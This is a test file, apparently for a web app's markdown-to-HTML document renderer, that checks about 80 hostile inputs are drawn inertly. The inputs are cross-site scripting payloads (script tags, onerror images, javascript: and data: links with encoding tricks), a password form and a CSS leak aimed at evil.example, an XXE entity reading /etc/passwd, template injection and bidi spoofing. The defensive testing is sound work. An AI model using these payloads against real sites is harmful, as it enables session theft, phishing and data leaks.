// Documents that want to run, load or send something: what is drawn of them holds elements and addresses of ours alone.
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { SaxesParser } from 'saxes'
import { describe, expect, test } from 'vitest'
import { Blocks } from '@/components/document/blocks'
import { Sentence } from '@/components/document/plain-text'
import { readDocument } from '@/lib/domain/document/read-document'

const ELEMENTS = new Set(
  'a bdi blockquote br code div em h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul'.split(' '),
)
const ATTRIBUTES = new Set(
  'aria-label class dir role scope start tabindex tabIndex title data-align data-box data-boxes data-chosen data-end data-flows data-follows data-level data-line data-noted data-outcome'.split(
    ' ',
  ),
)
const OF_LINKS = new Set(['href', 'target', 'rel', 'title'])

/** What of a markup is not ours: elements, attributes and addresses that no document may bring. */
function strangers(markup: string): string[] {
  const found: string[] = []
  const parser = new SaxesParser()
  parser.on('error', (error) => found.push(`malformed: ${error.message}`))
  parser.on('opentag', ({ name, attributes }) => {
    if (name !== 'root' && !ELEMENTS.has(name)) found.push(`<${name}>`)
    for (const [attribute, value] of Object.entries(attributes)) {
      if (!(name === 'a' ? OF_LINKS : ATTRIBUTES).has(attribute)) found.push(`${name} ${attribute}`)
      if (attribute === 'href' && !/^(?:https?:\/\/[a-z0-9]|mailto:)/.test(String(value))) found.push(`href ${value}`)
    }
    const { rel, target } = attributes
    if (name === 'a' && (target !== '_blank' || !String(rel).includes('noopener'))) found.push('a link into this page')
  })
  parser.write(`<root>${markup}</root>`).close()
  return found
}

const draw = (text: string): string =>
  renderToStaticMarkup(createElement(Blocks, { blocks: readDocument(text.split('\n')), marks: null }))

const HOSTILE: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script over lines': '<script>\nalert(1)\n</script>',
  'a script in a paragraph': 'text <script src=//evil.example/x.js></script> text',
  'an image with a handler': '<img src=x onerror=alert(1)>',
  'an image in capitals': '<IMG SRC="x" ONERROR="alert(1)">',
  'an image with slashes': '<img/src=x/onerror=alert(1)>',
  'SVG that loads': '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x /></svg>',
  'SVG with a script': '<svg><script>alert(1)</script></svg>',
  'SVG with a link': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  MathML: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'a frame': '<iframe src="javascript:alert(1)"></iframe>',
  'a frame with a document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object': '<object data="data:text/html,<script>alert(1)</script>"></object>',
  'an embedded thing': '<embed src="javascript:alert(1)">',
  'a form': '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  'an input that focuses': '<input autofocus onfocus=alert(1)>',
  'details that open': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'a style': '<style>body{background:url(https://evil.example/?leak)}</style>',
  'a style over all': '<div style="position:fixed;inset:0;background:red">x</div>',
  'a base': '<base href="https://evil.example/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'a video': '<video><source onerror=alert(1)></video>',
  'a body': '<body onload=alert(1)>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a comment with a script': '<!-- <script>alert(1)</script> -->',
  'a processing instruction': '<?xml version="1.0"?><x onclick="alert(1)"/>',
  'character data': '<![CDATA[<script>alert(1)</script>]]>',
  'a doctype': '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  'a half tag': '<img src=x onerror=alert(1)\n\n> x',
  'a link to a script': '[x](javascript:alert(1))',
  'a link in capitals': '[x](JaVaScRiPt:alert(1))',
  'a link with an entity': '[x](javascript&#58;alert(1))',
  'a link with a tab': '[x](java&#9;script:alert(1))',
  'a link with a line end': '[x](java&NewLine;script:alert(1))',
  'a link with a leading control': '[x](&#1;javascript:alert(1))',
  'a link in angle brackets': '[x](<javascript:alert(1)>)',
  'a link that escapes': '[x](java\\script:alert(1))',
  'a link in percent signs': '[x](%6aavascript:alert(1))',
  'a link to data': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a link to an image as data': '[x](data:image/svg+xml,<svg/onload=alert(1)>)',
  'a link to VBScript': '[x](vbscript:msgbox(1))',
  'a link to a file': '[x](file:///etc/passwd)',
  'a link to a blob': '[x](blob:https://evil.example/1)',
  'a link to a view of the source': '[x](view-source:https://evil.example)',
  'a link without a scheme': '[x](//evil.example/x)',
  'a link with three slashes': '[x](///evil.example/x)',
  'a link with back slashes': '[x](https:\\\\evil.example)',
  'a link with a name before the host': '[x](https://bank.example@evil.example/)',
  'a link with a quote': '[x](https://a.example/"onmouseover="alert(1))',
  'a link with a title': '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
  'a reference to a script': '[x]\n\n[x]: javascript:alert(1)',
  'a reference with an entity': '[x][y]\n\n[y]: &#x6A;avascript:alert(1) "t"',
  'an automatic link': '<javascript:alert(1)>',
  'an automatic link to data': '<data:text/html,<script>alert(1)</script>>',
  'an image from elsewhere': '![x](https://evil.example/pixel.png)',
  'an image to a script': '![x](javascript:alert(1))',
  'an image as data': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'an image with a handler in its text': '![" onerror="alert(1)](https://a.example/x.png)',
  'an image in a link': '[![x](https://evil.example/p.png)](javascript:alert(1))',
  'a table cell': '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  'a table alignment': '| a |\n|:-"style="color:red":|\n| b |',
  'a task': '- [ ] <img src=x onerror=alert(1)>\n- [x] [x](javascript:alert(1))',
  'a heading': '# <script>alert(1)</script> [x](javascript:alert(1))',
  'code that ends early': '```html\n</code></pre><script>alert(1)</script>\n```',
  'a language of code': '```"><script>alert(1)</script>\nx\n```',
  'a language with a handler': '``` js" onclick="alert(1)\nx\n```',
  'code in a line': '`</code><script>alert(1)</script>`',
  'a quote': '> <script>alert(1)</script>\n> [x](javascript:alert(1))',
  'front matter': '---\ntitle: <script>alert(1)</script>\n---',
  'an annotation': '<!-- countersign: {kind: "</p><script>alert(1)</script>"} -->',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on templates
  braces: '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
  'emphasis around a tag': '**<img src=x onerror=alert(1)>**',
  'nested marks': '[**[x](javascript:alert(1))**](javascript:alert(2))',
  'entities of a tag': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'numbers of a tag': '&#60;script&#62;alert(1)&#60;/script&#62;',
  'a NUL in a scheme': '[x](java\0script:alert(1))',
  'a bidi override in a link': '[moc.elpmaxe\u202e](https://evil.example/\u202e)',
}

test('there are enough of them', () => {
  expect(Object.keys(HOSTILE).length).toBeGreaterThanOrEqual(70)
})

test('the check sees what it looks for', () => {
  expect(strangers('<img src="x" onerror="alert(1)"/>')).toEqual(['<img>', 'img src', 'img onerror'])
  expect(strangers('<a href="javascript:alert(1)" target="_blank" rel="noopener">x</a>')).toEqual([
    'href javascript:alert(1)',
  ])
  expect(strangers('<a href="https://a.example/">x</a>')).toEqual(['a link into this page'])
  expect(strangers('<p style="color:red">x</p>')).toEqual(['p style'])
  expect(strangers('<p>x</b>')[0]).toMatch(/^malformed/)
})

describe('nothing of it runs, loads or leads astray', () => {
  test.each(Object.entries(HOSTILE))('%s', (_name, text) => {
    const markup = draw(text)
    expect(strangers(markup)).toEqual([])
    expect(markup).not.toMatch(/href="[^"]*evil\.example@|href="https:\/\/bank\.example@/)
  })
  test('all of it together', () => {
    expect(strangers(draw(Object.values(HOSTILE).join('\n\n')))).toEqual([])
  })
})

test('what is harmless is drawn: its words stay, and its links lead where they say', () => {
  const markup = draw(
    '- [x] See **the** [plan](https://a.example/plan) and `make`\n\n![chart](https://b.example/c.png)',
  )
  expect(markup).toContain('aria-label="Ticked box"')
  expect(markup).toContain('<strong>the</strong>')
  expect(markup).toMatch(
    /<a href="https:\/\/a\.example\/plan"[^>]*>plan<\/a><span class="document-aside"> \(a\.example\)/,
  )
  expect(markup).toContain('<code dir="ltr">make</code>')
  expect(markup).toMatch(/<a href="https:\/\/b\.example\/c\.png"[^>]*>Image: chart<\/a>/)
  expect(markup).not.toContain('<img')
})

test('a script stays as the words that it is', () => {
  expect(draw('<script>alert(1)</script>')).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
})

test('a character that turns the direction is shown by its name, and turns nothing', () => {
  const markup = draw('Pay \u202egnp.exe')
  expect(markup).not.toContain('\u202e')
  expect(markup).toContain('U+202E')
})

test('names in a sentence read in their own direction, and turn nothing of it', () => {
  const sentence = (text: string) => renderToStaticMarkup(createElement(Sentence, { text }))
  expect(sentence('“גיבוי” is still open, “B\u202e” too.')).toBe(
    '“<bdi>גיבוי</bdi>” is still open, “<bdi>B<span class="control-mark" title="A character that changes the direction of text">U+202E</span></bdi>” too.',
  )
  expect(sentence('Nothing is quoted.')).toBe('Nothing is quoted.')
  expect(sentence('An “unclosed quote')).toBe('An “unclosed quote')
})
